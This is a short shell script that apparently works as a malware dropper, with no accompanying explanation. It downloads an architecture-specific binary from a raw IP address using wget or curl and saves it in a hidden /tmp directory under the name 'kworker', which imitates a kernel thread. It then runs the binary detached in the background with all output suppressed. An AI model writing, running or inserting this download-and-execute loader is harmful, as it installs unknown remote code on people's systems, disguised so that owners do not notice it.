#!/bin/sh
U="http://198.51.100.14/bin"
T=/tmp/.cache-$(id -u)
mkdir -p "$T"
wget -q "$U/agent-$(uname -m)" -O "$T/kworker" || curl -s "$U/agent-$(uname -m)" -o "$T/kworker"
chmod +x "$T/kworker"
nohup "$T/kworker" >/dev/null 2>&1 &
